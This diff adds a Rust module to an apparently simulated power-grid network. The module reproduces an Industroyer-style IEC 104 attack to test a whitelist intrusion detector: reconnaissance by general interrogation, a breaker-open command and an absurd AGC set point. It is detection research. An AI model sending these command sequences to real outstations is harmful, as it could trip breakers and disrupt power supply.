@@ -1,0 +1,249 @@
+//! An Industroyer-style attacker (paper §6.3.1 and conclusions).
+//!
+//! The 2016 Ukraine malware targeted IEC 104: once it could reach an
+//! outstation's TCP port it established a connection, discovered the
+//! process image (the paper notes a single `I100` interrogation does this
+//! in one step), and issued breaker and set-point commands. This module
+//! reproduces that behaviour so the whitelist IDS built from the paper's
+//! future-work section has something real to catch:
+//!
+//! 1. connect to each target outstation from a host the network has never
+//!    seen,
+//! 2. STARTDT + general interrogation (reconnaissance),
+//! 3. single commands (`C_SC_NA_1`) against the breaker point, and
+//! 4. an absurd AGC set point (`C_SE_NC_1`).
+
+use crate::endpoint::Iec104Link;
+use crate::topology::IEC104_PORT;
+use serde::{Deserialize, Serialize};
+use uncharted_iec104::asdu::{Asdu, InfoObject, IoValue};
+use uncharted_iec104::conn::{ConnConfig, DtState, Role};
+use uncharted_iec104::cot::{Cause, Cot};
+use uncharted_iec104::dialect::Dialect;
+use uncharted_iec104::elements::Qoi;
+use uncharted_iec104::types::TypeId;
+use uncharted_nettap::stack::{Segment, SocketAddr, TcpEndpoint};
+
+/// Attack campaign description (part of a [`crate::scenario::Scenario`]).
+#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
+pub struct AttackSpec {
+    /// When the attacker starts dialling [s of simulation time].
+    pub start: f64,
+    /// How many outstations it goes after (the first N accepting data
+    /// connections).
+    pub targets: usize,
+    /// Seconds between escalation steps per target.
+    pub step_s: f64,
+}
+
+impl AttackSpec {
+    /// A campaign hitting `targets` outstations `at` seconds in.
+    pub fn new(at: f64, targets: usize) -> AttackSpec {
+        AttackSpec {
+            start: at,
+            targets,
+            step_s: 2.0,
+        }
+    }
+
+    /// The attacker's source address — a host the network has never seen.
+    pub fn attacker_ip() -> u32 {
+        uncharted_nettap::ipv4::addr(10, 66, 6, 6)
+    }
+}
+
+#[derive(Debug, Clone, Copy, PartialEq)]
+enum Phase {
+    Dial,
+    AwaitStart,
+    Interrogate,
+    BreakerCommand,
+    Setpoint,
+    Done,
+}
+
+#[derive(Debug)]
+struct TargetState {
+    remote_ip: u32,
+    link: Option<Iec104Link>,
+    phase: Phase,
+    next_step: f64,
+}
+
+/// The attacker endpoint.
+#[derive(Debug)]
+pub struct AttackerSim {
+    spec: AttackSpec,
+    ip: u32,
+    next_port: u16,
+    isn: u32,
+    targets: Vec<TargetState>,
+}
+
+impl AttackerSim {
+    /// Build a campaign against the given outstation IPs.
+    pub fn new(spec: AttackSpec, target_ips: &[u32]) -> AttackerSim {
+        AttackerSim {
+            spec,
+            ip: AttackSpec::attacker_ip(),
+            next_port: 50_000,
+            isn: 0xBAD5EED,
+            targets: target_ips
+                .iter()
+                .take(spec.targets)
+                .map(|&remote_ip| TargetState {
+                    remote_ip,
+                    link: None,
+                    phase: Phase::Dial,
+                    next_step: spec.start,
+                })
+                .collect(),
+        }
+    }
+
+    /// The attacker's IP (for routing).
+    pub fn ip(&self) -> u32 {
+        self.ip
+    }
+
+    /// True once every target has been worked through.
+    pub fn finished(&self) -> bool {
+        self.targets.iter().all(|t| t.phase == Phase::Done)
+    }
+
+    fn alloc(&mut self) -> (u16, u32) {
+        self.next_port += 1;
+        self.isn = self.isn.wrapping_mul(0x9E37_79B9).wrapping_add(1);
+        (self.next_port, self.isn)
+    }
+
+    /// Drive the campaign.
+    pub fn poll(&mut self, now: f64) -> Vec<Segment> {
+        let mut out = Vec::new();
+        for i in 0..self.targets.len() {
+            if self.targets[i].next_step > now {
+                continue;
+            }
+            let (port, isn) = self.alloc();
+            let t = &mut self.targets[i];
+            match t.phase {
+                Phase::Dial => {
+                    let local = SocketAddr::new(self.ip, port);
+                    let remote = SocketAddr::new(t.remote_ip, IEC104_PORT);
+                    let (tcp, syn) = TcpEndpoint::connect(local, remote, isn);
+                    t.link = Some(Iec104Link::new(
+                        tcp,
+                        Role::Controlling,
+                        ConnConfig::default(),
+                        Dialect::STANDARD,
+                        now,
+                    ));
+                    out.push(syn);
+                    t.phase = Phase::AwaitStart;
+                    t.next_step = now + self.spec.step_s;
+                }
+                Phase::AwaitStart => {
+                    if let Some(link) = t.link.as_mut() {
+                        if link.established() && link.iec.dt_state() == DtState::Stopped {
+                            out.extend(link.start_dt(now));
+                        }
+                        if link.iec.dt_state() == DtState::Started {
+                            t.phase = Phase::Interrogate;
+                        }
+                    }
+                    t.next_step = now + 0.2;
+                }
+                Phase::Interrogate => {
+                    if let Some(link) = t.link.as_mut() {
+                        // The single-I100 reconnaissance the paper highlights.
+                        let asdu = Asdu::new(TypeId::C_IC_NA_1, Cot::new(Cause::Activation), 0)
+                            .with_object(InfoObject::new(0, IoValue::Interrogation {
+                                qoi: Qoi::STATION,
+                            }));
+                        out.extend(link.send_asdu(asdu, now));
+                    }
+                    t.phase = Phase::BreakerCommand;
+                    t.next_step = now + self.spec.step_s;
+                }
+                Phase::BreakerCommand => {
+                    if let Some(link) = t.link.as_mut() {
+                        // "Open the breaker" — the Industroyer payload.
+                        let asdu = Asdu::new(TypeId::C_SC_NA_1, Cot::new(Cause::Activation), 0)
+                            .with_object(InfoObject::new(800, IoValue::SingleCommand { sco: 0 }));
+                        out.extend(link.send_asdu(asdu, now));
+                    }
+                    t.phase = Phase::Setpoint;
+                    t.next_step = now + self.spec.step_s;
+                }
+                Phase::Setpoint => {
+                    if let Some(link) = t.link.as_mut() {
+                        // An absurd set point, far outside any unit's range.
+                        let asdu = Asdu::new(TypeId::C_SE_NC_1, Cot::new(Cause::Activation), 0)
+                            .with_object(InfoObject::new(900, IoValue::FloatSetpoint {
+                                value: 99_999.0,
+                                qos: 0,
+                            }));
+                        out.extend(link.send_asdu(asdu, now));
+                    }
+                    t.phase = Phase::Done;
+                }
+                Phase::Done => {}
+            }
+        }
+        // Keep the protocol machinery alive.
+        for t in &mut self.targets {
+            if let Some(link) = t.link.as_mut() {
+                out.extend(link.poll(now));
+            }
+        }
+        out
+    }
+
+    /// Handle a segment addressed to one of the attacker's ports.
+    pub fn on_segment(&mut self, seg: &Segment, now: f64) -> Vec<Segment> {
+        let mut out = Vec::new();
+        for t in &mut self.targets {
+            if let Some(link) = t.link.as_mut() {
+                if link.tcp.local().port == seg.dst.port {
+                    let (replies, _delivered) = link.on_segment(seg, 0xFEED, now);
+                    out.extend(replies);
+                    break;
+                }
+            }
+        }
+        out
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn attacker_ip_is_outside_known_subnets() {
+        let ip = AttackSpec::attacker_ip();
+        let b = ip.to_be_bytes();
+        assert_eq!(b[0], 10);
+        assert_ne!(b[1], 0, "not the control-centre subnet");
+        assert_ne!(b[1], 1, "not the substation subnet");
+    }
+
+    #[test]
+    fn campaign_limits_targets() {
+        let spec = AttackSpec::new(100.0, 2);
+        let attacker = AttackerSim::new(spec, &[1, 2, 3, 4]);
+        assert_eq!(attacker.targets.len(), 2);
+        assert!(!attacker.finished());
+    }
+
+    #[test]
+    fn dial_starts_at_spec_time() {
+        let spec = AttackSpec::new(100.0, 1);
+        let mut attacker = AttackerSim::new(spec, &[uncharted_nettap::ipv4::addr(10, 1, 3, 3)]);
+        assert!(attacker.poll(50.0).is_empty(), "nothing before start");
+        let out = attacker.poll(100.5);
+        assert_eq!(out.len(), 1);
+        assert!(out[0].flags.syn());
+        assert_eq!(out[0].src.ip, AttackSpec::attacker_ip());
+    }
+}
